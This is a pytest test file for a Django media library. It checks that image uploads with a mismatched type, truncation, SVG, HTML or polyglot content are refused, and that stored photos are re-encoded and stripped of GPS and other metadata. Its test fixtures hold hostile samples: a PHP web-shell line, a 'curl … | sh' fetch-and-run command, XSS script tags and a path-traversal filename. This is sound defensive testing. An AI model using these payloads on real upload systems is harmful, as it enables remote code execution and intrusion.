"""Uploads that cannot hurt us: every refused kind of file gets a clear error and
leaves no file and no row; what is stored is upright and carries no metadata."""

import hashlib
import io
import random

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, ImageFile, PngImagePlugin
from PIL import Image as PILImage
from pytest_django.asserts import assertContains

from media_library.models import Image
from media_library.renditions import avif_available, rendition_for
from media_library.validation import check_upload, safe_basename
from tests.factories import (
    ImageFactory,
    UserFactory,
    exif_jpeg,
    image_bytes,
    png_header_claiming,
    with_iptc,
    xmp_packet,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def upload_form(data: bytes, name: str, **extra) -> dict:
    return {
        "file": SimpleUploadedFile(name, data, content_type="image/png"),
        "title": "Launch photo",
        "alt_text": "A rocket rises on a column of flame.",
        "caption": "",
        "credit": "SpaceX",
        "licence": "agency",
        "source_url": "",
        "tags": "",
        **extra,
    }


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    buffer = io.BytesIO()
    PILImage.new("RGB", (40, 30), (10, 20, 30)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (40, 30), (10, 20, 30)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


def box(kind: bytes, body: bytes) -> bytes:
    """An ISO-BMFF box (MP4, AVIF)."""
    return (8 + len(body)).to_bytes(4, "big") + kind + body


def video_data(size: int = 200_000, *, seed: int = 1) -> bytes:
    """Bytes that look like compressed video: random, so short markers such as
    "<svg " or a ZIP signature turn up in them now and then, as here."""
    noise = random.Random(seed).randbytes(size)  # noqa: S311 (test data)
    middle = size // 2
    return noise[:middle] + b"<svg PK\x05\x06" + noise[middle:]


def mp4(*, moov: bytes = b"", mdat: bytes | None = None) -> bytes:
    """The short MP4 a phone appends to a motion photo."""
    return (
        box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42")
        + box(b"moov", box(b"mvhd", b"\x00" * 100) + moov)
        + box(b"mdat", video_data() if mdat is None else mdat)
    )


def samsung_trailer(*blocks: tuple[int, bytes, bytes]) -> bytes:
    """Samsung's SEF trailer: (type, name, data) blocks, then their directory."""
    body, entries = b"", []
    for kind, name, data in blocks:
        block = b"\x00\x00" + kind.to_bytes(2, "little")
        block += len(name).to_bytes(4, "little") + name + data
        entries.append((kind, len(body), len(block)))
        body += block
    directory = b"SEFH" + (106).to_bytes(4, "little")
    directory += len(blocks).to_bytes(4, "little")
    for kind, position, size in entries:
        directory += b"\x00\x00" + kind.to_bytes(2, "little")
        directory += (len(body) - position).to_bytes(4, "little")
        directory += size.to_bytes(4, "little")
    return body + directory + len(directory).to_bytes(4, "little") + b"SEFT"


def photo(size=(120, 80), color=(30, 90, 160)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", size, color).save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def ultra_hdr() -> bytes:
    """A JPEG and its gain map, as an MPF (MPO) file: Android's Ultra HDR and
    the iPhone's HDR photos are made this way."""
    buffer = io.BytesIO()
    PILImage.new("RGB", (120, 80), (30, 90, 160)).save(
        buffer,
        "MPO",
        save_all=True,
        append_images=[PILImage.new("L", (60, 40), 128).convert("RGB")],
    )
    return buffer.getvalue()


PNG = image_bytes(120, 80, fmt="PNG")
JPEG = image_bytes(120, 80, fmt="JPEG")
ZIP = b"PK\x03\x04" + b"\x00" * 26 + b"x.php" + b"PK\x05\x06" + b"\x00" * 18
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(1)"><script>alert(document.cookie)</script></svg>'
)

REFUSED = {
    "jpeg bytes named .png": (JPEG, "launch.png", "mismatch", "holds a JPEG picture"),
    "png bytes named .jpg": (PNG, "launch.jpg", "mismatch", "holds a PNG picture"),
    "truncated png": (PNG[: len(PNG) // 2], "cut.png", "damaged", "damaged or incomp"),
    "truncated jpeg": (
        exif_jpeg(PILImage.effect_noise((200, 200), 50).convert("RGB"))[:-400],
        "cut.jpg",
        "damaged",
        "damaged or incomplete",
    ),
    "header claims 50,000 × 50,000": (
        png_header_claiming(50_000, 50_000),
        "bomb.png",
        "too_many_pixels",
        "larger than the library takes",
    ),
    "svg with a script": (SVG, "logo.svg", "svg", "SVG drawings are not accepted"),
    "svg named .png": (SVG, "logo.png", "svg", "SVG drawings are not accepted"),
    "html named .jpg": (
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "page.jpg",
        "html",
        "web page (HTML)",
    ),
    "polyglot: html after the end of a png": (
        PNG + b"<html><script>alert(1)</script></html>",
        "poly.png",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: zip after the end of a gif": (
        image_bytes(fmt="GIF") + ZIP,
        "poly.gif",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: zip after the end of a jpeg": (
        photo() + ZIP,
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: html after the end of a jpeg": (
        photo() + b"<html><script>alert(1)</script></html>",
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: php after the end of a jpeg": (
        photo() + b"<?php system($_GET['c']); ?>",
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: shell script after the end of a jpeg": (
        photo() + b"\n#!/bin/sh\ncurl http://example.com/x | sh\n",
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: pdf after the end of a jpeg": (
        photo() + b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n",
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: zip after a motion photo's video": (
        photo() + mp4() + ZIP,
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: a video cut short": (
        (photo() + mp4())[:-1000],
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: a picture, not a video, in an ftyp box": (
        photo() + box(b"ftyp", b"avif\x00\x00\x00\x00avifmif1") + box(b"mdat", b"x"),
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: a png after the end of a jpeg": (
        photo() + PNG,
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: a video after the end of a png": (
        PNG + mp4(),
        "poly.png",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: malformed samsung trailer": (
        photo() + b"<html></html>" + (1000).to_bytes(4, "little") + b"SEFT",
        "poly.jpg",
        "trailing_data",
        "extra data hidden after the end of the picture",
    ),
    "polyglot: script in a motion photo's video metadata": (
        photo() + mp4(moov=box(b"udta", b"<script>alert(1)</script>")),
        "poly.jpg",
        "hidden_markup",
        "web page code (“&lt;script”)",
    ),
    "polyglot: php in a motion photo's video data": (
        photo() + mp4(mdat=video_data() + b"<?php system($_GET['c']); ?>"),
        "poly.jpg",
        "hidden_markup",
        "web page code (“&lt;?php”)",
    ),
    "polyglot: php in the comment of an appended jpeg": (
        photo() + jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
        "poly.jpg",
        "hidden_markup",
        "web page code (“&lt;?php”)",
    ),
    "polyglot: html in a samsung trailer block": (
        photo()
        + samsung_trailer((0x0A01, b"Image_UTC_Data", b"<body onload=alert(1)>")),
        "poly.jpg",
        "hidden_markup",
        "web page code (“&lt;body”)",
    ),
    "polyglot: php in a jpeg comment": (
        jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
        "poly.jpg",
        "hidden_markup",
        "web page code (“&lt;?php”)",
    ),
    "polyglot: script in a png text chunk": (
        png_with_text("<script>alert(1)</script>"),
        "poly.png",
        "hidden_markup",
        "web page code",
    ),
    "polyglot: zip inside png metadata": (
        png_with_text(ZIP.decode("latin-1")),
        "poly.png",
        "hidden_archive",
        "archive (ZIP) hidden inside",
    ),
    "not a picture at all": (b"just some text", "notes.png", "not_image", "not a pic"),
    "a tiff": (image_bytes(fmt="TIFF"), "scan.png", "not_image", "a TIFF image"),
    "a heic photo": (
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
        "IMG_0001.jpg",
        "heic",
        "HEIC photo",
    ),
    "a php script named .php": (PNG, "shell.php", "extension", "not a kind of file"),
    "an empty file": (b"", "empty.png", "empty", "file is empty"),
}


@pytest.mark.parametrize("case", REFUSED.values(), ids=REFUSED.keys())
def test_refused_upload_has_a_clear_error_and_leaves_nothing(
    admin_client, media_files, case
):
    data, name, _code, message = case
    response = admin_client.post(
        reverse("admin:media_library_image_add"), upload_form(data, name)
    )
    assert response.status_code == 200
    assertContains(response, message)
    assert Image.objects.count() == 0
    assert media_files() == []


@pytest.mark.parametrize("case", REFUSED.values(), ids=REFUSED.keys())
def test_refused_past_the_form_too(media_files, case):
    """The checks are in the model's save, not only in the admin form."""
    data, name, code, _message = case
    with pytest.raises(ValidationError) as refused:
        Image(title="x", alt_text="x", credit="x", file=ContentFile(data, name)).save()
    assert refused.value.code == code
    assert Image.objects.count() == 0
    assert media_files() == []


def test_pixel_limit_is_read_from_the_header_without_decoding(settings, monkeypatch):
    settings.IMAGE_MAX_PIXELS = 10_000

    def decode(*args, **kwargs):
        raise AssertionError("pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decode)
    with pytest.raises(ValidationError) as refused:
        check_upload(ContentFile(image_bytes(200, 100, fmt="PNG"), "big.png"))
    assert refused.value.code == "too_many_pixels"
    assert "200 × 100 pixels; the library takes up to 0.01 megapixels" in str(
        refused.value
    )


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("x.php.png", "x-php.png"),
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\Users\\me\\Mars rover.PNG", "Mars_rover.png"),
        ("rocket\x00\n.png", "rocket.png"),
        (".png", "image.png"),
    ],
)
def test_stored_names_are_safe_basenames(name, stored):
    assert safe_basename(name) == stored
    image = ImageFactory(file=ContentFile(PNG, name=name))
    assert image.file.name.rsplit("/", 1)[1] == stored


@pytest.mark.parametrize(
    ("fmt", "name"),
    [("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp"), ("GIF", "a.gif")]
    + [pytest.param("AVIF", "a.avif", id="AVIF")],
)
def test_every_accepted_format(fmt, name):
    image = ImageFactory(file=ContentFile(image_bytes(90, 60, fmt=fmt), name=name))
    assert (image.format, image.width, image.height) == (fmt, 90, 60)
    with image.file.open("rb") as stored, PILImage.open(stored) as picture:
        assert picture.format == fmt


def test_animated_gif_keeps_its_frames():
    frames = [PILImage.new("RGB", (40, 30), (i * 40, 0, 0)) for i in range(4)]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0
    )
    image = ImageFactory(file=ContentFile(buffer.getvalue(), name="spin.gif"))
    with image.file.open("rb") as stored, PILImage.open(stored) as picture:
        assert picture.n_frames == 4


# --- What cameras append after a JPEG ----------------------------------------------

CAMERA_TRAILERS = {
    "ultra hdr: a gain map in mpf (pillow reads an mpo)": ultra_hdr(),
    "google motion photo": photo() + mp4(),
    "ultra hdr gain map, then a motion photo's video": ultra_hdr() + mp4(),
    "a gain map appended without mpf": photo() + photo((60, 40), (128, 128, 128)),
    "padding, then the video": photo() + b"\x00" * 64 + mp4(),
    "samsung motion photo": photo()
    + samsung_trailer(
        (0x0A01, b"Image_UTC_Data", b"1700000000000"),
        (0x0A30, b"MotionPhoto_Data", mp4()),
        (0x0B41, b"DualShot_DepthMap_1", photo((30, 20), (9, 9, 9))),
    ),
    "samsung trailer after a video": photo()
    + mp4()
    + samsung_trailer((0x0A01, b"Image_UTC_Data", b"1700000000000")),
}


@pytest.mark.parametrize("data", CAMERA_TRAILERS.values(), ids=CAMERA_TRAILERS.keys())
def test_what_cameras_append_is_accepted_and_never_stored(data, media_files):
    """Phones append video, gain maps and depth maps after the picture's end;
    the library takes the picture, and keeps none of them: the stored original
    (served as it is, under MEDIA_URL) is the picture re-encoded alone."""
    image = ImageFactory(file=ContentFile(data, name="motion.jpg"))

    assert (image.format, image.width, image.height) == ("JPEG", 120, 80)
    assert image.sha256 == hashlib.sha256(data).hexdigest()
    stored = image.file.read()
    assert stored.count(b"\xff\xd8") == 1  # one JPEG, no second stream
    assert stored.endswith(b"\xff\xd9")
    for appended in (b"ftyp", b"mdat", b"SEFH", b"SEFT", b"MotionPhoto", b"MPF"):
        assert appended not in stored
    with PILImage.open(io.BytesIO(stored)) as picture:
        assert (picture.format, picture.size) == ("JPEG", (120, 80))
        assert picture.getpixel((60, 40))[2] > 120  # the photo, not the gain map
    made = rendition_for(image, spec="full", width=800, fmt="webp")
    assert b"ftyp" not in made.file.read()


def test_a_camera_trailer_in_the_admin_upload(admin_client, media_files):
    data = CAMERA_TRAILERS["samsung motion photo"]
    response = admin_client.post(
        reverse("admin:media_library_image_add"), upload_form(data, "20240601.jpg")
    )
    assert response.status_code == 302
    assert Image.objects.get().file.size < len(data)


# --- Orientation and metadata ----------------------------------------------------


def two_tone() -> PILImage.Image:
    """60 × 40: the left half red, the right half blue."""
    picture = PILImage.new("RGB", (60, 40), (0, 0, 255))
    picture.paste((255, 0, 0), (0, 0, 30, 40))
    return picture


def is_red(pixel) -> bool:
    return pixel[0] > 180 and pixel[2] < 80


def is_blue(pixel) -> bool:
    return pixel[2] > 180 and pixel[0] < 80


def no_personal_metadata(data: bytes) -> None:
    with PILImage.open(io.BytesIO(data)) as picture:
        exif = picture.getexif()
        assert not exif.get_ifd(ExifTags.IFD.GPSInfo)
        assert ExifTags.Base.Make not in exif
        assert ExifTags.Base.Model not in exif
        assert "xmp" not in picture.info
        assert "photoshop" not in picture.info
    assert b"GPS" not in data
    assert b"PhoneMaker" not in data


def test_orientation_applied_and_gps_never_stored(admin_client, media_files):
    # A phone photo held upright: stored sideways with orientation 6 (rotate
    # 90° clockwise to show), with the GPS position and camera in its EXIF.
    uploaded = exif_jpeg(two_tone(), orientation=6, gps=True)
    with PILImage.open(io.BytesIO(uploaded)) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test is real

    response = admin_client.post(
        reverse("admin:media_library_image_add"), upload_form(uploaded, "phone.jpg")
    )

    assert response.status_code == 302
    image = Image.objects.get()
    assert (image.width, image.height) == (40, 60)  # upright
    assert image.sha256 == hashlib.sha256(uploaded).hexdigest()  # as uploaded
    stored = image.file.read()
    no_personal_metadata(stored)
    with PILImage.open(io.BytesIO(stored)) as picture:
        assert picture.size == (40, 60)
        assert ExifTags.Base.Orientation not in picture.getexif()
        # The left (red) half of the sensor is the top once turned upright.
        assert is_red(picture.getpixel((20, 5)))
        assert is_blue(picture.getpixel((20, 55)))

    formats = ["jpeg", "webp"] + (["avif"] if avif_available() else [])
    for fmt in formats:
        made = rendition_for(image, spec="full", width=800, fmt=fmt)
        data = made.file.read()
        no_personal_metadata(data)
        with PILImage.open(io.BytesIO(data)) as picture:
            assert picture.size == (40, 60)
            assert is_red(picture.convert("RGB").getpixel((20, 5)))


def test_original_keeps_no_xmp_or_iptc():
    uploaded = with_iptc(
        exif_jpeg(xmp=xmp_packet(title="Secret location", credit="Someone")),
        {110: "Someone", 120: "Taken at 28.5N 80.6W"},
    )
    image = ImageFactory(file=ContentFile(uploaded, name="wire.jpg"))
    stored = image.file.read()
    no_personal_metadata(stored)
    assert b"Secret location" not in stored
    assert b"28.5N" not in stored


# --- Prefilled from the file ------------------------------------------------------


def test_title_caption_and_credit_prefilled_from_xmp(admin_client):
    uploaded = exif_jpeg(
        gps=False,
        xmp=xmp_packet(
            title="Curiosity at Mont Mercou",
            description="A selfie taken by the rover's arm camera.",
            credit="NASA/JPL-Caltech/MSSS",
        ),
    )
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(uploaded, "selfie.jpg", title="", credit="", caption=""),
    )
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.title == "Curiosity at Mont Mercou"
    assert image.caption == "A selfie taken by the rover's arm camera."
    assert image.credit == "NASA/JPL-Caltech/MSSS"


def test_prefilled_from_iptc(admin_client):
    uploaded = with_iptc(
        exif_jpeg(gps=False),
        {5: "Falcon 9 lifts off", 110: "SpaceX", 120: "Launch from pad 39A."},
    )
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(uploaded, "f9.jpg", title="", credit="", caption=""),
    )
    assert response.status_code == 302
    image = Image.objects.get()
    assert (image.title, image.credit, image.caption) == (
        "Falcon 9 lifts off",
        "SpaceX",
        "Launch from pad 39A.",
    )


def test_credit_prefilled_from_exif_copyright(admin_client):
    uploaded = exif_jpeg(
        gps=False,
        copyright="(c) 2021 NASA/JPL-Caltech. All rights reserved.",
        description="Jezero crater delta",
    )
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(uploaded, "delta.jpg", credit="", caption=""),
    )
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.credit == "NASA/JPL-Caltech"
    assert image.caption == "Jezero crater delta"


def test_typed_values_win_over_the_file(admin_client):
    uploaded = exif_jpeg(gps=False, xmp=xmp_packet(title="From file", credit="ESA"))
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(uploaded, "a.jpg", title="Typed", credit="NASA"),
    )
    assert response.status_code == 302
    image = Image.objects.get()
    assert (image.title, image.credit) == ("Typed", "NASA")


def test_credit_still_required_when_the_file_has_none(admin_client, media_files):
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(exif_jpeg(gps=False), "a.jpg", credit=""),
    )
    assert response.status_code == 200
    assert set(response.context["adminform"].form.errors) == {"credit"}
    assert Image.objects.count() == 0
    assert media_files() == []


def agency_xmp(**languages: dict[str, str]) -> bytes:
    """XMP as agencies now write it: dc:title and IPTC's "Alt Text
    (Accessibility)", each a list of one text per language."""

    def alt(tag: str) -> str:
        return (
            f"<{tag}><rdf:Alt>"
            + "".join(
                f'<rdf:li xml:lang="{lang}">{text}</rdf:li>'
                for lang, text in languages[tag].items()
            )
            + f"</rdf:Alt></{tag}>"
        )

    return (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about=""'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:Iptc4xmpCore="http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/"'
        ' xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"'
        ' photoshop:Credit="ESA/CNES/Arianespace">'
        f"{''.join(alt(tag) for tag in languages)}"
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode()


ARIANE = {
    "dc:title": {"fr": "Décollage d'Ariane 6", "x-default": "Ariane 6 lifts off"},
    "Iptc4xmpCore:AltTextAccessibility": {
        "x-default": "A white rocket climbs from the jungle on a column of flame.",
        "fr": "Une fusée blanche s'élève au-dessus de la jungle.",
    },
}


def test_alt_text_prefilled_from_iptc_in_the_readers_default_language(
    admin_client,
):
    uploaded = exif_jpeg(gps=False, xmp=agency_xmp(**ARIANE))
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(uploaded, "va262.jpg", title="", credit="", alt_text=""),
    )
    assert response.status_code == 302
    image = Image.objects.get()
    assert image.alt_text == (
        "A white rocket climbs from the jungle on a column of flame."
    )
    assert (image.title, image.credit) == ("Ariane 6 lifts off", "ESA/CNES/Arianespace")


def test_bulk_upload_takes_alt_text_from_the_file(admin_client):
    with_alt = exif_jpeg(gps=False, xmp=agency_xmp(**ARIANE))
    without = exif_jpeg(two_tone(), gps=False)
    response = admin_client.post(
        reverse("admin:media_library_image_bulk_upload"),
        {
            "files": [
                SimpleUploadedFile("va262.jpg", with_alt),
                SimpleUploadedFile("pad.jpg", without),
            ],
            "credit": "",
            "licence": "agency",
        },
    )
    added = {r.name: r.image for r in response.context["results"]}
    assert added["va262.jpg"].alt_text.startswith("A white rocket climbs")
    assert added["pad.jpg"].alt_text == ""
    # Only the picture that lacks something is flagged, and says what.
    assertContains(response, "add its alt text and credit before", count=1)
    assertContains(response, "result-incomplete", count=1)


def test_alt_text_still_required_when_the_file_has_none(admin_client, media_files):
    response = admin_client.post(
        reverse("admin:media_library_image_add"),
        upload_form(exif_jpeg(gps=False), "a.jpg", alt_text=""),
    )
    assert response.status_code == 200
    assert set(response.context["adminform"].form.errors) == {"alt_text"}
    assert Image.objects.count() == 0
    assert media_files() == []
